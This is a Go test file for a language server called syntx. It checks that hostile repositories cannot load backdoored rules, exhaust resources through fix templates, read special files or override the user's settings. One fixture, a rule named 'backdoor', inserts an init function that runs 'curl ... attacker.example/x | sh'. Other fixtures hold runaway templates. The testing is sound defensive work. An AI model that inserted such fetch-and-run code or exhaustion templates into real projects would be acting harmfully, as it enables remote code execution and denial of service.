package lsp

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"go.lsp.dev/protocol"

	"github.com/syntx/syntx/config"
	"github.com/syntx/syntx/internal/lspclient"
	"github.com/syntx/syntx/store"
)

// The attacks of issue 14, each through the real server over a pipe, each
// asserting the safe outcome. A repository is hostile until the user trusts
// it: its rules, its settings, its file names and sizes.

// backdoor redefines a built-in security rule: its fix turns TLS
// verification back on, and adds an init that runs a shell command.
const backdoor = `[[rule]]
id = "%s"
language = "go"
category = "security"
title = "Verify TLS certificates"
message = "Turn certificate verification back on."
prior = 0.99
imports = ["os/exec"]
query = '''
((keyed_element
   . (literal_element (identifier) @_key)
   (literal_element (true) @site) .)
 (#eq? @_key "InsecureSkipVerify"))
'''
[[rule.edit]]
at = "site"
text = "false"
[[rule.edit]]
at = "@toplevel"
op = "insert_before"
text = '''func init() { _ = exec.Command("sh", "-c", "curl -s https://attacker.example/x | sh").Run() }

'''
`

const tlsSrc = `package p

import "crypto/tls"

var client = &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}
`

// hostileWorkspace makes a workspace folder holding files, relative to it.
func hostileWorkspace(t *testing.T, files map[string]string) string {
	t.Helper()
	ws := t.TempDir()
	for name, content := range files {
		p := filepath.Join(ws, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return ws
}

// startLoading starts a server that loads its rules as `syntx serve` does
// (built-in, the user's, the workspace's when trusted), on dataDir, with
// hooks set before it serves.
func startLoading(t *testing.T, dataDir, workspace string, initOptions any, hook func(*Server)) *envServer {
	t.Helper()
	c, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	a, b := net.Pipe()
	s := NewServer(Options{Logger: quietLogger(), DataDir: dataDir})
	if hook != nil {
		hook(s)
	}
	code := serve(t, c, s, a)
	cl := lspclient.New(c, b)
	t.Cleanup(func() { _ = cl.Close() })
	e := &envServer{harness: &harness{c: cl, code: code, srv: s}, ctx: ctx(t), workspace: workspace}
	if _, err := cl.Initialize(e.ctx, workspace, false, initOptions); err != nil {
		t.Fatalf("initialize: %v", err)
	}
	return e
}

// shown returns the window/showMessage texts the server sent.
func shown(c *lspclient.Client) []string {
	var out []string
	for _, n := range c.Notifications() {
		if n.Method != "window/showMessage" {
			continue
		}
		var p struct{ Message string }
		_ = json.Unmarshal(n.Params, &p)
		out = append(out, p.Message)
	}
	return out
}

func waitShown(t *testing.T, e *envServer, parts ...string) string {
	t.Helper()
	n, err := e.c.WaitFor(e.ctx, func(n lspclient.Notification) bool {
		if n.Method != "window/showMessage" {
			return false
		}
		for _, p := range parts {
			if !strings.Contains(string(n.Params), p) {
				return false
			}
		}
		return true
	})
	if err != nil {
		t.Fatalf("no window/showMessage saying %q: %v; shown: %q", parts, err, shown(e.c))
	}
	return string(n.Params)
}

// tlsActions opens the TLS document and returns the actions offered on its
// InsecureSkipVerify line.
func tlsActions(t *testing.T, e *envServer, trigger protocol.CodeActionTriggerKind) []*protocol.CodeAction {
	t.Helper()
	uri := lspclient.FileURI(filepath.Join(e.workspace, "client.go"))
	if err := e.c.Open(e.ctx, uri, "go", tlsSrc); err != nil {
		t.Fatal(err)
	}
	at := strings.Index(tlsSrc, "true")
	acts, err := suggestions(e.c.CodeActions(e.ctx, uri, at, at, trigger))
	if err != nil {
		t.Fatal(err)
	}
	return acts
}

func actionText(a *protocol.CodeAction) string {
	b, _ := json.Marshal(a)
	return string(b)
}

// TestBackdoorRuleNotLoadedUntrusted: a cloned repository's rule that
// redefines a built-in id is not loaded while the folder is untrusted; the
// built-in rule answers, and the user is told, once, what was left out and
// how to trust it.
func TestBackdoorRuleNotLoadedUntrusted(t *testing.T) {
	t.Parallel()
	ws := hostileWorkspace(t, map[string]string{".syntx/rules/evil.toml": fmt.Sprintf(backdoor, "go.tls-insecure-skip-verify")})
	e := startLoading(t, t.TempDir(), ws, nil, nil)
	// The lightbulb (where the attack offered its fix) shows nothing of
	// the workspace rule; the built-in fix is unsafe, so it shows only in
	// an explicitly opened menu.
	for _, a := range tlsActions(t, e, protocol.CodeActionTriggerKindAutomatic) {
		if strings.Contains(actionText(a), "exec") {
			t.Fatalf("the lightbulb offers the workspace rule's fix: %s", actionText(a))
		}
	}
	acts := tlsActions(t, e, protocol.CodeActionTriggerKindInvoked)
	if len(acts) != 1 {
		t.Fatalf("%d actions, want the built-in one", len(acts))
	}
	if txt := actionText(acts[0]); strings.Contains(txt, "exec") || !strings.Contains(txt, "builtin:go/security.toml") {
		t.Fatalf("the action is not the built-in rule's: %s", txt)
	}
	msg := waitShown(t, e, "not loaded", "syntx trust")
	if !strings.Contains(msg, "1 rule file") {
		t.Errorf("the message does not say what was found: %s", msg)
	}
	if st := e.status(t); st.Workspace == nil || st.Workspace.Trusted || st.Workspace.Rules != 0 || st.Workspace.Note != "this folder is not trusted" {
		t.Errorf("syntx.status workspace: %+v", st.Workspace)
	}
	n := 0
	for _, m := range shown(e.c) {
		if strings.Contains(m, "not loaded") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("told %d times, want once", n)
	}
	e.shutdown(t)
}

// TestBackdoorRuleClashTrusted: trusted, the same rule is refused as a
// clash with the built-in id, the problem naming both files; a workspace
// rule with its own id loads, says where it comes from (title and
// data.source), and its stored offer records its file and hash. A change to
// the rules after trusting untrusts the folder again.
func TestBackdoorRuleClashTrusted(t *testing.T) {
	t.Parallel()
	ws := hostileWorkspace(t, map[string]string{
		".syntx/rules/evil.toml": fmt.Sprintf(backdoor, "go.tls-insecure-skip-verify"),
		".syntx/rules/own.toml":  fmt.Sprintf(backdoor, "go.team-tls"),
	})
	home := t.TempDir()
	if err := config.OpenTrust(home).Grant(config.ReadWorkspace(ws)); err != nil {
		t.Fatal(err)
	}
	e := startLoading(t, home, ws, nil, nil)
	msg := waitShown(t, e, "rule problem")
	if !strings.Contains(msg, "evil.toml") || !strings.Contains(msg, "builtin:go/security.toml") || !strings.Contains(msg, "may not redefine") {
		t.Errorf("the clash is not reported naming both files: %s", msg)
	}
	acts := tlsActions(t, e, protocol.CodeActionTriggerKindInvoked)
	var builtin, own *protocol.CodeAction
	for _, a := range acts {
		switch {
		case strings.Contains(actionText(a), `"ruleId":"go.tls-insecure-skip-verify"`):
			builtin = a
		case strings.Contains(actionText(a), `"ruleId":"go.team-tls"`):
			own = a
		}
	}
	if builtin == nil || strings.Contains(actionText(builtin), "exec") {
		t.Fatalf("the built-in rule's action was replaced: %v", builtin)
	}
	if own == nil {
		t.Fatalf("the workspace's own rule was not offered: %d actions", len(acts))
	}
	if !strings.Contains(own.Title, "(workspace rule .syntx/rules/own.toml)") {
		t.Errorf("workspace rule title %q does not say where it comes from", own.Title)
	}
	var data struct {
		Source, Origin, SourceSha256, SuggestionID string
	}
	_ = json.Unmarshal([]byte(own.Data), &data)
	if data.Source != ".syntx/rules/own.toml" || data.Origin != "workspace" || len(data.SourceSha256) != 64 {
		t.Errorf("data of the workspace action: %+v", data)
	}
	e.shutdown(t)
	db, err := store.Open(context.Background(), filepath.Join(home, "syntx.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	s, err := db.Suggestion(context.Background(), data.SuggestionID)
	if err != nil {
		t.Fatal(err)
	}
	if s.RuleSource != filepath.Join(ws, ".syntx", "rules", "own.toml") || s.RuleSHA256 != data.SourceSha256 {
		t.Errorf("stored offer: rule source %q, hash %q; want the file and %q", s.RuleSource, s.RuleSHA256, data.SourceSha256)
	}

	// A pull changes a rule: no longer trusted.
	if err := os.WriteFile(filepath.Join(ws, ".syntx", "rules", "own.toml"), []byte(fmt.Sprintf(backdoor, "go.team-tls2")), 0o644); err != nil {
		t.Fatal(err)
	}
	e = startLoading(t, home, ws, nil, nil)
	msg = waitShown(t, e, "not loaded")
	if !strings.Contains(msg, "changed since you trusted it") || !strings.Contains(msg, "own.toml changed") {
		t.Errorf("the message does not say the files changed: %s", msg)
	}
	for _, a := range tlsActions(t, e, protocol.CodeActionTriggerKindInvoked) {
		if strings.Contains(actionText(a), "workspace") {
			t.Errorf("a changed workspace's rule was offered: %s", a.Title)
		}
	}
	e.shutdown(t)
}

// TestClientTrust: VS Code's decision comes in initializationOptions and a
// notification; restricted mode wins over the trust store, and granting
// trust later loads the workspace's rules for the open documents.
func TestClientTrust(t *testing.T) {
	t.Parallel()
	ws := hostileWorkspace(t, map[string]string{".syntx/rules/own.toml": fmt.Sprintf(backdoor, "go.team-tls")})
	home := t.TempDir()
	if err := config.OpenTrust(home).Grant(config.ReadWorkspace(ws)); err != nil {
		t.Fatal(err)
	}
	e := startLoading(t, home, ws, map[string]any{"workspaceTrust": false, "persona": "developer"}, nil)
	waitShown(t, e, "restricted mode")
	if e.srv.config().Persona != "developer" {
		t.Errorf("the rest of initializationOptions was lost")
	}
	if acts := tlsActions(t, e, protocol.CodeActionTriggerKindInvoked); len(acts) != 1 {
		t.Fatalf("restricted mode: %d actions, want only the built-in one", len(acts))
	}
	if err := e.c.Notify(e.ctx, "syntx/workspaceTrust", map[string]any{"trusted": true}); err != nil {
		t.Fatal(err)
	}
	waitShown(t, e, "workspace trusted", "1 workspace rule")
	uri := lspclient.FileURI(filepath.Join(e.workspace, "client.go"))
	at := strings.Index(tlsSrc, "true")
	acts, err := suggestions(e.c.CodeActions(e.ctx, uri, at, at, protocol.CodeActionTriggerKindInvoked))
	if err != nil {
		t.Fatal(err)
	}
	if len(acts) != 2 {
		t.Fatalf("after trust was granted: %d actions, want the built-in and the workspace's", len(acts))
	}
	if st := e.status(t); st.Workspace == nil || !st.Workspace.Trusted || st.Workspace.Rules != 1 || st.Workspace.Note != "trusted in the editor" {
		t.Errorf("syntx.status workspace after trust: %+v", st.Workspace)
	}
	e.shutdown(t)
}

// TestHostileTemplatesThroughServer: fix templates that would run forever
// or grow without bound are refused at load, or stopped within their
// budget; the server answers the request, and the next ones.
func TestHostileTemplatesThroughServer(t *testing.T) {
	t.Parallel()
	rule := func(id, fix string) string {
		return fmt.Sprintf(`[[rule]]
id = %q
language = "go"
category = "style"
title = "Hostile"
message = "Hostile."
prior = 0.9
query = '((true) @site)'
fix = '''%s'''
`, id, fix)
	}
	ws := hostileWorkspace(t, map[string]string{
		".syntx/rules/loops.toml":  rule("go.loops", `{{range 2000000000}}{{range 2000000000}}{{end}}{{end}}`),
		".syntx/rules/printf.toml": rule("go.printf", `{{range 100000}}{{printf "%0999999d" 0}}{{end}}`),
		".syntx/rules/var.toml":    rule("go.var", `{{$n := 2000000000}}{{range $n}}{{end}}false`),
		".syntx/rules/grow.toml":   rule("go.grow", `{{$s := "xxxxxxxx"}}{{range $i, $c := fields "a b c d e f g h i j k l m n o p q r s t u v w x y z a b c d e f g h"}}{{$s = printf "%s%s" $s $s}}{{end}}{{$s}}`),
	})
	e := startLoading(t, t.TempDir(), ws, map[string]any{"workspaceTrust": true}, nil)
	msg := waitShown(t, e, "rule problem")
	if !strings.Contains(msg, "range over a number") {
		t.Errorf("the refused templates are not reported: %s", msg)
	}
	acts := tlsActions(t, e, protocol.CodeActionTriggerKindInvoked)
	for _, a := range acts {
		if strings.Contains(actionText(a), "go.var") || strings.Contains(actionText(a), "go.grow") || strings.Contains(actionText(a), "go.loops") {
			t.Errorf("a hostile template's action was offered: %s", a.Title)
		}
	}
	if len(acts) != 1 {
		t.Errorf("%d actions, want the built-in one", len(acts))
	}
	e.shutdown(t)
}

// TestSpecialFilesRefused: rule and config files that are links to
// /dev/zero or FIFOs, and a model path to one, are refused without being
// read: initialize answers, and the user hears why.
func TestSpecialFilesRefused(t *testing.T) {
	t.Parallel()
	ws := hostileWorkspace(t, map[string]string{".syntx/rules/ok.toml": fmt.Sprintf(backdoor, "go.team-tls")})
	if err := os.Symlink("/dev/zero", filepath.Join(ws, ".syntx", "rules", "zero.toml")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(ws, ".syntx", "config.toml"), 0o644); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	fifo := filepath.Join(t.TempDir(), "model.onnx")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, model := range []string{"/dev/zero", fifo} {
		e := startLoading(t, t.TempDir(), ws, map[string]any{"workspaceTrust": true, "policy": map[string]any{"model": model}}, nil)
		msg := waitShown(t, e, "policy.model")
		if !strings.Contains(msg, "not a regular file") {
			t.Errorf("model %s: %s", model, msg)
		}
		if acts := tlsActions(t, e, protocol.CodeActionTriggerKindInvoked); len(acts) != 2 {
			t.Errorf("model %s: %d actions, want the built-in and the workspace's", model, len(acts))
		}
		logs := strings.Join(logMessages(e.c), "\n")
		for _, want := range []string{"zero.toml", "config.toml: not a regular file (it is a FIFO)"} {
			if !strings.Contains(logs, want) {
				t.Errorf("model %s: the log does not report %q:\n%s", model, want, logs)
			}
		}
		e.shutdown(t)
	}
}

func logMessages(c *lspclient.Client) []string {
	var out []string
	for _, n := range c.Notifications() {
		if n.Method == "window/logMessage" || n.Method == "window/showMessage" {
			var p struct{ Message string }
			_ = json.Unmarshal(n.Params, &p)
			out = append(out, p.Message)
		}
	}
	return out
}

// TestWorkspaceSettingsRefused: a trusted workspace cannot switch on code
// storage the user switched off, shorten adapter retention, change limits
// or the model path; each refused key is named with its file.
func TestWorkspaceSettingsRefused(t *testing.T) {
	t.Parallel()
	ws := hostileWorkspace(t, map[string]string{".syntx/config.toml": `
[capture]
store_code = true
[train]
keep_adapters = 1
[limits]
max_document_bytes = 1024
[policy]
model = "/dev/zero"
threshold = 0.5
[team]
url = "postgres://attacker.example/db"
`})
	e := startLoading(t, t.TempDir(), ws, map[string]any{"workspaceTrust": true, "capture": map[string]any{"store_code": false}}, nil)
	cfg := e.srv.config()
	if cfg.Capture.StoreCode || cfg.Train.KeepAdapters != config.Defaults().Train.KeepAdapters ||
		cfg.Limits.MaxDocumentBytes != config.Defaults().Limits.MaxDocumentBytes || cfg.Policy.Model != "" {
		t.Errorf("the workspace changed user settings: %+v", cfg)
	}
	if cfg.Policy.Threshold != 0.5 {
		t.Errorf("policy.threshold %v, want the workspace's 0.5", cfg.Policy.Threshold)
	}
	logs := strings.Join(logMessages(e.c), "\n")
	for _, key := range []string{"capture.store_code", "train.keep_adapters", "limits.max_document_bytes", "policy.model", "team.url"} {
		if !strings.Contains(logs, filepath.Join(ws, ".syntx", "config.toml")+": "+key+" may not be set by a workspace") {
			t.Errorf("%s: not refused with the file named:\n%s", key, logs)
		}
	}
	e.shutdown(t)
}

// holdFind returns a hook that holds a code action's work on documents
// whose key contains part until release is closed, and reports on entered
// each time it starts holding.
func holdFind(part string) (hook func(*Server), entered chan string, release chan struct{}) {
	entered = make(chan string, 16)
	release = make(chan struct{})
	hook = func(s *Server) {
		s.hooks.find = func(key string) {
			if strings.Contains(key, part) {
				entered <- key
				<-release
			}
		}
	}
	return hook, entered, release
}

func waitEntered(t *testing.T, entered chan string) {
	t.Helper()
	select {
	case <-entered:
	case <-time.After(30 * time.Second):
		t.Fatal("the held document's code action never started")
	}
}

// TestOtherDocumentsAnsweredWhileOneIsBusy: while one document's code
// action is still being worked on, a request on another document, an edit
// to the busy one, a command and shutdown are all answered; the busy
// request is answered when its work ends, not cancelled.
func TestOtherDocumentsAnsweredWhileOneIsBusy(t *testing.T) {
	t.Parallel()
	hook, entered, release := holdFind("busy.go")
	e := startLoading(t, t.TempDir(), t.TempDir(), map[string]any{"limits": map[string]any{"request_timeout": "1h"}}, hook)
	busy := lspclient.FileURI(filepath.Join(e.workspace, "busy.go"))
	other := lspclient.FileURI(filepath.Join(e.workspace, "other.go"))
	for _, u := range []string{busy, other} {
		if err := e.c.Open(e.ctx, u, "go", goSrc); err != nil {
			t.Fatal(err)
		}
	}
	at := strings.Index(goSrc, "fmt.Errorf")
	busyDone := make(chan error, 1)
	go func() {
		acts, err := suggestions(e.c.CodeActions(e.ctx, busy, at, at, protocol.CodeActionTriggerKindInvoked))
		if err == nil && len(acts) != 1 {
			err = fmt.Errorf("%d actions on the busy document, want 1", len(acts))
		}
		busyDone <- err
	}()
	waitEntered(t, entered)
	// The busy document's work is held: everything else goes on.
	if err := e.c.Change(e.ctx, busy, lspclient.Edit{Start: 0, End: 0, Text: "// edited while busy\n"}); err != nil {
		t.Fatal(err)
	}
	acts, err := suggestions(e.c.CodeActions(e.ctx, other, at, at, protocol.CodeActionTriggerKindInvoked))
	if err != nil || len(acts) != 1 {
		t.Fatalf("the other document's request: %d actions, %v", len(acts), err)
	}
	select {
	case err := <-busyDone:
		t.Fatalf("the busy request was answered before its work ended: %v", err)
	default:
	}
	close(release)
	if err := <-busyDone; err != nil {
		t.Fatalf("the busy request: %v", err)
	}
	e.shutdown(t)
}

// TestRequestTimeoutAndCancel: a code action that runs out of
// limits.request_timeout is answered RequestFailed (-32803), one the client
// cancels RequestCancelled (-32800), and the server goes on.
func TestRequestTimeoutAndCancel(t *testing.T) {
	t.Parallel()
	hook, entered, release := holdFind("slow.go")
	defer close(release)
	e := startLoading(t, t.TempDir(), t.TempDir(), map[string]any{"limits": map[string]any{"request_timeout": "100ms"}}, hook)
	slow := lspclient.FileURI(filepath.Join(e.workspace, "slow.go"))
	if err := e.c.Open(e.ctx, slow, "go", goSrc); err != nil {
		t.Fatal(err)
	}
	at := strings.Index(goSrc, "fmt.Errorf")
	_, err := e.c.CodeActions(e.ctx, slow, at, at, protocol.CodeActionTriggerKindAutomatic)
	if errCode(err) != codeRequestFailed || !strings.Contains(err.Error(), "limits.request_timeout") {
		t.Fatalf("a request past its timeout: %v, want RequestFailed (-32803)", err)
	}
	waitEntered(t, entered)
	e.shutdown(t)

	// Cancelled by the client, with a request id the test knows: raw frames.
	hook, entered, release2 := holdFind("slow.go")
	defer close(release2)
	a, b := net.Pipe()
	s := NewServer(Options{Logger: quietLogger(), DataDir: t.TempDir()})
	hook(s)
	c, cancel := context.WithCancel(context.Background())
	defer cancel()
	serve(t, c, s, a)
	r := newRawClient(b)
	r.call(t, 1, "initialize", map[string]any{"capabilities": map[string]any{}, "initializationOptions": map[string]any{"limits": map[string]any{"request_timeout": "1h"}}})
	r.expect(t, 1)
	r.notify(t, "initialized", map[string]any{})
	r.notify(t, "textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": "file:///w/slow.go", "languageId": "go", "version": 1, "text": goSrc}})
	r.call(t, 2, "textDocument/codeAction", map[string]any{"textDocument": map[string]any{"uri": "file:///w/slow.go"},
		"range": map[string]any{"start": map[string]any{"line": 5, "character": 1}, "end": map[string]any{"line": 5, "character": 1}}, "context": map[string]any{"diagnostics": []any{}}})
	waitEntered(t, entered)
	r.notify(t, "$/cancelRequest", map[string]any{"id": 2})
	if m := r.expect(t, 2); m.code() != codeRequestCancelled {
		t.Fatalf("a cancelled request: %s, want RequestCancelled (-32800)", m)
	}
	r.call(t, 3, "shutdown", nil)
	r.expect(t, 3)
}

// rawClient speaks JSON-RPC frames by hand, for tests that need request
// ids or must not read the answers.
type rawClient struct {
	w io.Writer
	r *bufio.Reader
}

func newRawClient(rw io.ReadWriter) *rawClient { return &rawClient{w: rw, r: bufio.NewReader(rw)} }

func (c *rawClient) send(t testing.TB, msg map[string]any) {
	t.Helper()
	if err := c.write(msg); err != nil {
		t.Fatalf("write: %v", err)
	}
}

// write writes one frame; it may be called from any goroutine.
func (c *rawClient) write(msg map[string]any) error {
	msg["jsonrpc"] = "2.0"
	b, err := json.Marshal(msg)
	if err != nil {
		return err
	}
	_, err = fmt.Fprintf(c.w, "Content-Length: %d\r\n\r\n%s", len(b), b)
	return err
}

func (c *rawClient) call(t testing.TB, id int, method string, params any) {
	t.Helper()
	c.send(t, map[string]any{"id": id, "method": method, "params": params})
}

func (c *rawClient) notify(t testing.TB, method string, params any) {
	t.Helper()
	c.send(t, map[string]any{"method": method, "params": params})
}

type rawMessage struct {
	ID     json.RawMessage `json:"id"`
	Method string          `json:"method"`
	Result json.RawMessage `json:"result"`
	Error  *struct {
		Code    int64  `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

func (m rawMessage) code() int64 {
	if m.Error == nil {
		return 0
	}
	return m.Error.Code
}

func (m rawMessage) String() string {
	if m.Error != nil {
		return fmt.Sprintf("id %s: error %d %s", m.ID, m.Error.Code, m.Error.Message)
	}
	return fmt.Sprintf("id %s: result %.100s", m.ID, m.Result)
}

// read reads the next frame.
func (c *rawClient) read() (rawMessage, error) {
	var m rawMessage
	n := -1
	for {
		line, err := c.r.ReadString('\n')
		if err != nil {
			return m, err
		}
		line = strings.TrimRight(line, "\r\n")
		if line == "" {
			break
		}
		if v, ok := strings.CutPrefix(line, "Content-Length: "); ok {
			n, _ = strconv.Atoi(v)
		}
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(c.r, body); err != nil {
		return m, err
	}
	err := json.Unmarshal(body, &m)
	return m, err
}

// expect reads frames until the response to id, skipping notifications.
func (c *rawClient) expect(t testing.TB, id int) rawMessage {
	t.Helper()
	for {
		m, err := c.read()
		if err != nil {
			t.Fatalf("reading the answer to %d: %v", id, err)
		}
		if m.Method == "" && string(m.ID) == strconv.Itoa(id) {
			return m
		}
	}
}

// TestUnreadAnswersBounded: a client that writes requests and never reads
// the answers cannot make the server hold more than maxPendingRequests of
// them: past that, requests are answered ServerCancelled, and writing that
// answer blocks the read loop until the client reads. Every request is
// answered once the client reads.
func TestUnreadAnswersBounded(t *testing.T) {
	t.Parallel()
	a, b := net.Pipe()
	s := NewServer(Options{Logger: quietLogger(), DataDir: t.TempDir(), Rules: builtinRules()})
	refused := make(chan struct{}, 1)
	s.hooks.busy = func() {
		select {
		case refused <- struct{}{}:
		default:
		}
	}
	c, cancel := context.WithCancel(context.Background())
	defer cancel()
	serve(t, c, s, a)
	r := newRawClient(b)
	r.call(t, 1, "initialize", map[string]any{"capabilities": map[string]any{}})
	r.expect(t, 1)
	r.notify(t, "initialized", map[string]any{})
	r.notify(t, "textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": "file:///w/a.go", "languageId": "go", "version": 1, "text": goSrc}})
	const n = 3 * maxPendingRequests
	written := make(chan int, 1)
	go func() {
		i := 0
		defer func() { written <- i }()
		for ; i < n; i++ {
			err := r.write(map[string]any{"id": 100 + i, "method": "textDocument/codeAction", "params": map[string]any{"textDocument": map[string]any{"uri": "file:///w/a.go"},
				"range": map[string]any{"start": map[string]any{"line": 5, "character": 1}, "end": map[string]any{"line": 5, "character": 1}}, "context": map[string]any{"diagnostics": []any{}}}})
			if err != nil {
				return
			}
		}
	}()
	// The server takes requests until maxPendingRequests are waiting for
	// their answers to be read, refuses the next one, and blocks writing
	// that refusal (nobody reads): it reads no more.
	select {
	case <-refused:
	case <-time.After(30 * time.Second):
		t.Fatalf("the server never refused a request; %d are pending", s.stream.Pending())
	}
	select {
	case i := <-written:
		t.Fatalf("the client wrote all %d requests (%d) while reading nothing: the server kept reading", n, i)
	default:
	}
	if p := s.stream.Pending(); p > maxPendingRequests+1 {
		t.Fatalf("%d requests pending, bound %d", p, maxPendingRequests+1)
	}
	ok, busy := 0, 0
	for i := 0; i < n; i++ {
		m, err := r.read()
		if err != nil {
			t.Fatal(err)
		}
		switch m.code() {
		case 0:
			ok++
		case codeServerCancelled:
			busy++
		default:
			t.Fatalf("unexpected answer %s", m)
		}
		if p := s.stream.Pending(); p > maxPendingRequests+1 {
			t.Fatalf("%d requests pending, bound %d", p, maxPendingRequests+1)
		}
	}
	if ok < maxPendingRequests || busy == 0 {
		t.Errorf("%d answered, %d refused as busy; want at least %d answered and some refused", ok, busy, maxPendingRequests)
	}
	<-written
	r.call(t, 1, "shutdown", nil)
	r.expect(t, 1)
}
